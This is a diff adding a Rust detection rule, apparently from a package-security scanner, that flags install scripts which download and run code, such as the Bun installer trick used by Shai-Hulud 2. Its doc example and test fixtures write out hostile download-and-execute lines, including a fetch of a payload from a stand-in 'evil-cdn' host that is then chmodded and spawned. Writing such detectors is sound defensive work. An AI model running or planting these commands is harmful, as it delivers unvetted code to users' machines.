@@ -1,0 +1,78 @@
+use crate::context::{FileContext, FileKind};
+use crate::report::{Confidence, Finding, Severity};
+use crate::rule::{Rule, RuleMeta, declare_rule};
+use crate::rules::{is_network_call, is_process_call, is_public_ipv4, is_well_known_host, url_host, values};
+
+declare_rule! {
+    /// ### What it does
+    /// Finds code that downloads something and runs it: the Bun installer (`bun.sh/install`),
+    /// or a file that makes network requests, marks a file executable (`chmod`) and spawns a
+    /// process. Downloads only from registries and well-known vendor hosts (npm, GitHub releases,
+    /// Google storage for browsers) are medium; unknown hosts or raw IPs are high.
+    ///
+    /// ### Why is this bad?
+    /// Native droppers and Shai-Hulud 2's `setup_bun.js` fetch a runtime or binary at install
+    /// time and run it, so the payload never appears in the package.
+    ///
+    /// ### Examples
+    /// Incorrect:
+    /// ```js
+    /// execSync('curl -fsSL https://bun.sh/install | bash');
+    /// ```
+    /// Correct:
+    /// ```js
+    /// // esbuild: download our own platform binary from registry.npmjs.org, verify, run --version
+    /// ```
+    DownloadExecute, "download-execute", Download
+}
+
+impl Rule for DownloadExecute {
+    fn meta(&self) -> &'static RuleMeta {
+        &Self::META
+    }
+
+    fn run_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
+        if !matches!(file.kind, FileKind::Script | FileKind::ShellLike) {
+            return;
+        }
+        let file_values = values(file);
+        for value in &file_values {
+            if value.text.contains("bun.sh/install") || value.text.contains("bun.com/install") {
+                out.push(file.finding(&Self::META, Severity::High, Confidence::High, Some(value.offset), "downloads and installs the Bun runtime".to_owned(), None));
+                return;
+            }
+        }
+        let Some(facts) = file.js else { return };
+        let network = facts.calls.iter().find(|call| is_network_call(&call.callee));
+        let chmod = facts.calls.iter().any(|call| call.callee.starts_with("fs.chmod") || call.callee.starts_with("fs.promises.chmod"))
+            || file.text.contains("0o755") || file.text.contains("0o777") || file.text.contains("chmod +x");
+        let spawns = facts.calls.iter().any(|call| is_process_call(&call.callee));
+        let (Some(network), true, true) = (network, chmod, spawns) else { return };
+        let hosts: Vec<&str> = file_values.iter().filter(|value| value.text.len() < 500).filter_map(|value| url_host(value.text)).collect();
+        let unknown = hosts.iter().find(|host| is_public_ipv4(host) || !is_well_known_host(host) && host.contains('.') && !host.contains('$'));
+        let (severity, message) = match unknown {
+            Some(host) => (Severity::High, format!("downloads from `{host}`, makes the file executable and runs processes")),
+            None => (Severity::Medium, "downloads a file, makes it executable and runs processes".to_owned()),
+        };
+        out.push(file.finding(&Self::META, severity, Confidence::Medium, Some(network.offset as usize), message, None));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::tester::test_rule;
+
+    #[test]
+    fn test() {
+        let pass = vec![
+            "const https = require('https'); https.get('https://registry.npmjs.org/x');".into(),
+            "const fs = require('fs'); fs.chmodSync('bin/cli', 0o755);".into(),
+        ];
+        let fail = vec![
+            "require('child_process').execSync('curl -fsSL https://bun.sh/install | bash');".into(),
+            "const https = require('https'); const fs = require('fs'); const cp = require('child_process'); https.get('https://dl.evil-cdn.example/payload', (r) => { r.pipe(fs.createWriteStream('/tmp/p')); fs.chmodSync('/tmp/p', 0o755); cp.spawn('/tmp/p'); });".into(),
+        ];
+        test_rule(DownloadExecute::META.name, pass, fail);
+    }
+}
